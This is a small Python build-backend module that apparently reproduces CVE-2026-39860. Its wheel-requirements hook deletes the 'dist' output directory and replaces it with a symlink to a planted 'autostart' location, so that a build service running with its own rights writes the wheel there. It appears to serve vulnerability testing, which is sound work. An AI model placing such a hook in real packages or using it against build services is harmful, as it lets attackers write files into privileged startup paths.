"""Swaps the directory for outputs, which lies in the source tree, for a link to another one.

The second hook hands over an honest wheel. Where it arrives is decided by whoever carries it out: that
a service followed a build's link with its own rights was CVE-2026-39860.
"""

import os
import shutil

import kit


def get_requires_for_build_wheel(config_settings=None):
    with kit.attempt("swap"):
        shutil.rmtree("dist", ignore_errors=True)
        os.symlink(kit.plant("autostart").path, "dist")
    return []


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    return kit.wheel(wheel_directory)
